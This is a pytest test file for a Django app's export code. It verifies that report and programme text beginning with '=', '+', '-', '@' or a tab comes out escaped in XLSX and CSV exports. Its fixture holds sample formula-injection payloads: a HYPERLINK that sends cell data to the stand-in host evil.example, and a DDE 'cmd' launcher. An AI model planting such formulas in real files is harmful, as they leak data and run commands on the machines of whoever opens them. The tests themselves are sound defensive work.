"""No export turns what someone typed into a live formula (core/exports.py): the
secretariat's spreadsheets of a cycle, the API's CSV of reports and of the programme, the
public CSVs."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from core.exports import safe_cell
from reporting.choices import ReportState

pytestmark = pytest.mark.django_db

#: What a focal point might type, each a formula or a formula's start in a spreadsheet.
TYPED = {
    "progress": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "results": "+1+cmd|' /C calc'!A0",
    "obstacles": "-2+3",
    "next_steps": "@SUM(A1:A9)",
    "partners": "\tTabbed",
}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_is_kept_as_text(start):
    assert safe_cell(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize("value", ["Rangers trained", "", " =1", "1-2", 12, None, 3.5])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def typed_report(world):
    return world.report("kg", state=ReportState.ACCEPTED, status="in_progress", **TYPED)


def _escaped(cells):
    """The typed texts as they must come out: each with its leading apostrophe."""
    for text in TYPED.values():
        assert "'" + text in cells, (text, cells)
        assert text not in cells


def test_cycle_xlsx(client, secretariat_user, world, typed_report):
    client.force_login(secretariat_user)
    response = client.get(reverse("reporting:export", args=[world.cycle.pk, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    _escaped([cell.value for cell in cells])


def test_cycle_csv(client, secretariat_user, world, typed_report):
    client.force_login(secretariat_user)
    response = client.get(reverse("reporting:export", args=[world.cycle.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    _escaped(rows[1])


def test_api_csv_of_reports(client, secretariat_user, typed_report):
    client.force_login(secretariat_user)
    response = client.get("/api/v1/reports/", {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 2
    _escaped(rows[1])


def test_api_csv_of_the_programme(client, world):
    activity = world.activities["kg"]
    activity.text_en = "=1+1"
    activity.save()
    response = client.get("/api/v1/activities/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header = rows[0]
    texts = [row[header.index("text")] for row in rows[1:]]
    assert "'=1+1" in texts and "=1+1" not in texts


def test_public_matrix_csv(client, world):
    activity = world.activities["kg"]
    activity.text_en = "@cmd"
    activity.save()
    response = client.get(reverse("programme:matrix_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    texts = [row[1] for row in rows[1:]]
    assert "'@cmd" in texts and "@cmd" not in texts
